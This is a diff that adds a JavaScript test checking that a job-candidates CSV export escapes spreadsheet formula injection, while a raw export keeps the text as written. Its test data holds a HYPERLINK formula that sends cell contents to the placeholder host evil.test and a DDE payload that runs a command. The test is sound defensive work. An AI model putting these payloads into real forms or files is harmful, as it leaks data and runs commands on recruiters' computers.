@@ -64,6 +64,21 @@ describe('candidates list', () => {
     ).toEqual(['Salma', 'أمينة', 'Zoë 🦊'])
   })
 
+  test('CSV holds no formula that an applicant wrote; raw CSV holds every text as it was written', async () => {
+    const { jobUrl } = (await company.call('PUT', '/job/csv', { job: { title: 'csv' } })).body
+    const firstName = '=HYPERLINK("http://evil.test/?"&B2;"open")'
+    const lastName = "@SUM(1+1)*cmd|' /C calc'!A0"
+    await apply(jobUrl, { firstName, lastName, phone: '+212 600 000 000', message: 'Bonjour;=1+1' })
+    const safe = (await list('csv', '-o', 'csv')).stdout
+    expect(safe).toContain(`,"'=HYPERLINK(""http://evil.test/?""&B2;""open"")",'${lastName},`)
+    expect(safe).toContain(",'+212 600 000 000,")
+    expect(safe).toContain(",Bonjour;'=1+1,")
+    const raw = (await list('csv', '-o', 'raw-csv')).stdout
+    expect(raw).toContain(`,"=HYPERLINK(""http://evil.test/?""&B2;""open"")",${lastName},`)
+    expect(raw).toContain(',+212 600 000 000,')
+    expect(raw).toContain(',Bonjour;=1+1,')
+  })
+
   test('refuses a wrong date with 2, and an unknown job with 1', async () => {
     const date = await list('--from', '2026-02-30')
     expect(date.code).toBe(2)
